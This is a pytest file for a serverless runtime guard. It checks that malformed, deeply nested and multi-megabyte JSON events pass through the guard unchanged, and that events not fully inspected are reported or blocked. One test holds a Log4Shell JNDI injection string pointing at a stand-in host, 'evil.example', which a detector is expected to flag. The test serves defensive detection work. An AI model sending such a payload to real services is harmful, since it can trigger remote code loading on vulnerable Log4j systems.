"""Events of any bytes: the answer and the log are those of the function without the guard."""

import json
import uuid

import pytest
from protected import Running, last_words, oldest_and_newest, policy

pytestmark = oldest_and_newest
CODE = """
import json, sys

def handler(event, context):
    print("handling", type(event).__name__)
    if isinstance(event, dict) and "deep" in event:
        return "deep"
    return event if sys.getsizeof(event) < 10_000 else len(json.dumps(event))
"""
MB = 1 << 20
EVENTS = {
    "empty": b"",
    "no-json": b"no json at all",
    "cut-off": b'{"a": [1, 2',
    "trailing": b'{"a": 1} x',
    "two-values": b'{"a": 1}{"b": 2}',
    "not-utf-8": b'{"a": "\xff\xfe"}',
    "overlong": b'{"a": "\xc0\xaf\xc0\xaf"}',
    "bom": b'\xef\xbb\xbf{"a": 1}',
    "utf-16": '{"a": "b"}'.encode("utf-16"),
    "nul": b'{"a": "b\\u0000c"}',
    "raw-control": b'{"a": "b\x01c"}',
    "nan": b'{"a": NaN, "b": -Infinity}',
    "huge-number": b'{"a": 1e999, "b": -0.0, "c": 1E+2}',
    "long-integer": b"9" * 4000,
    "too-long-integer": b"9" * 6000,
    "lone-surrogate": b'{"a": "\\ud800", "\\udfff": "b\\ude00"}',
    "raw-surrogate": b'{"a": "\xed\xa0\x80"}',
    "pair": b'{"a": "\\ud83d\\ude00"}',
    "duplicate-keys": b'{"a": "first", "a": "second", "": 1, "": 2}',
    "bad-escape": b'{"a": "\\q"}',
    "null": b"null",
    "string": b'"text"',
    "10000-lists": b"[" * 10_000 + b"]" * 10_000,
    "10000-objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "900-lists": b'{"deep": ' + b"[" * 900 + b'"../x"' + b"]" * 900 + b"}",
    "10000-open": b"[" * 10_000,
    "6-mb": json.dumps({"a": "x y " * (6 * MB // 4 - 10)}).encode(),
    "6-mb-of-keys": json.dumps({f"{n:07}' x": "" for n in range(350_000)}).encode(),
    "6-mb-of-strings": json.dumps([f"s {n}'" for n in range(450_000)]).encode(),
    "6-mb-of-numbers": json.dumps([n / 7 for n in range(270_000)]).encode(),
    "json-in-json": json.dumps({"a": json.dumps({"b": json.dumps({"c": "d"})})}).encode(),
}


@pytest.fixture(scope="module")
def plain(start) -> Running:
    return start(CODE, None, timeout_s=60)


@pytest.fixture(scope="module", params=["detect", "prevent"])
def guarded(start, request) -> Running:
    return start(CODE, {"HAUBERK_MODE": request.param}, timeout_s=60)


@pytest.mark.parametrize("name", EVENTS)
def test_the_answer_is_as_without_the_guard(plain, guarded, name):
    request_id = str(uuid.uuid5(uuid.NAMESPACE_OID, name))
    for running in (plain, guarded):
        running.invoke({"warm": True})
    expected = plain.invoke_raw(EVENTS[name], request_id)
    seen = guarded.invoke_raw(EVENTS[name], request_id)
    assert seen.payload == expected.payload
    assert seen.answer.error == expected.answer.error
    assert last_words(seen.own_log) == last_words(expected.own_log)
    assert seen.answer.init_ms is None
    assert not seen.detections


def test_what_is_no_json_is_told_once_and_inspected_as_one_text(start):
    running = start(CODE, {"HAUBERK_MODE": "detect"})
    running.invoke({})
    seen = running.invoke_raw(b"${jndi:ldap://evil.example/a} is no json")
    (status,) = seen.statuses
    assert (status["state"], status["level"]) == ("gap", "ERROR")
    assert "no JSON from byte 0" in status["message"]
    assert [one["detector"] for one in seen.detections] == ["log4shell"]


def test_inputs_that_are_too_many_are_told_as_a_gap(start):
    running = start(CODE, {"HAUBERK_MODE": "detect"})
    running.invoke({})
    (status,) = running.invoke_raw(EVENTS["6-mb-of-strings"]).statuses
    assert status["state"] == "gap"
    assert "the event was not fully inspected: " in status["message"]


def test_an_event_that_was_not_fully_inspected_is_refused_where_the_policy_says_so(start):
    running = start(CODE, {"HAUBERK_POLICY": policy(not_inspected="block")})
    assert not running.invoke({"few": "words"}).answer.error
    seen = running.invoke_raw(EVENTS["6-mb-of-strings"])
    assert seen.answer.error
    (detection,) = seen.detections
    assert (detection["detector"], detection["verdict"]) == ("not-inspected", "block")
